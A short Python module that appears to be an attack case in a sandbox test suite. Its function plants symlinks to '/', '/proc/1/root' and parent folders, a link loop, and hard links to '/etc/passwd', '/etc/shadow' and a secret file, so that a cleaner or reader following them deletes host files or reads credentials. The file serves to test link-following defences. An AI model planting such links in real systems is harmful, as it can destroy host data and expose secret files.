"""Leaves symbolic and hard links in its folder that lead out of it, for whoever empties it or reads from it."""

import os
from typing import Any

HARMLESS = True
STATUS = "ok"


def attack(world: Any) -> list[str]:
    """To a folder of the machine whose files would then be gone, and to files and folders of the sandbox."""
    found = []
    os.makedirs("folder/inner")
    for number, target in enumerate(
        (f"{world.place}/kept", f"{world.place}/kept/file", "..", "loop", "/", "/proc/1/root")
    ):
        os.symlink(target, f"link{number}")
        os.symlink(target, f"folder/inner/link{number}")
    os.symlink("loop", "loop")
    targets = (f"{world.place}/secret.txt", "/etc/passwd", "/etc/shadow", "/proc/self/mem")
    for number, target in enumerate(targets if world.apart else targets[:1]):
        try:
            os.link(target, f"hard{number}")
            found.append(f"a hard link to {target}")
        except OSError:
            continue
    return found
